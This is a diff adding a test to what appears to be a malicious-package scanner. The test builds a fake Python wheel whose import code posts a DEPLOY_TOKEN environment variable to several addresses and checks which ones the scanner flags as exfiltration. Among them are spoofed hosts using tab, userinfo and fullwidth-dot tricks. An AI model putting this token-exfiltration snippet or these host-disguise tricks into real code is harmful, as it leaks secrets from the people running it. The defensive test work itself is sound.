@@ -988,3 +988,26 @@ test('a hidden log-in in a folder of the house that it goes to is its own busine
   expect(await to('claude.ai')).toMatchObject([{ score: 2 }]);
   expect(await to('kettle.invalid')).toMatchObject([{ score: 6 }]);
 });
+
+test('a name without a dot is a neighbour in the same network, a name that could be longer for a client is not', async () => {
+  const to = (address: string): Promise<readonly Finding[]> =>
+    inspect(
+      'exfiltration',
+      wheel({
+        'pkg/__init__.py': python(
+          'import os, requests',
+          `requests.post('${address}', data={'t': os.environ['DEPLOY_TOKEN']}).json()`,
+        ),
+      }),
+    );
+
+  expect(await to('http://vault:8200/v1/secret')).toEqual([]);
+  expect(await to('https://registry')).toEqual([]);
+  for (const address of [
+    'http://vault.metrics.invalid/v1',
+    'http://vault\\t.metrics.invalid/v1',
+    'http://vault:x@metrics.invalid/v1',
+    'http://vault。metrics.invalid/v1',
+  ])
+    expect(await to(address), address).toMatchObject([{ class: 'malware', context: 'import' }]);
+});
